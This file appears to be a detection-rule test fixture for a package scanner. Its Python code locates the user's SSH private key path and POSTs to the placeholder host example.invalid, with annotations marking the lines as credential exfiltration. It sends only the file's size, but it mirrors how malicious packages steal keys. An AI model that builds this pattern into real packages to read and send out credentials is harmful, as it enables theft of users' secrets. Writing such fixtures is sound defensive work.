# canary-test: path=mypkg/sync.py artifact=wheel
# Reads an SSH private key and POSTs data: the SDK-file-plus-upload shape.
# Inert: only the key's size is sent, to example.invalid.
import os

import requests

# ruleid: CREDENTIAL_EXFILTRATION
KEY = os.path.expanduser("~/.ssh/id_rsa")


def report():
    size = os.path.getsize(KEY) if os.path.exists(KEY) else 0
    # ruleid: CREDENTIAL_EXFILTRATION
    requests.post("https://example.invalid/k", json={"size": size}, timeout=5)

# ok: CREDENTIAL_FILE_REFERENCE, CREDENTIAL_PATH_ACCESS
_ = None
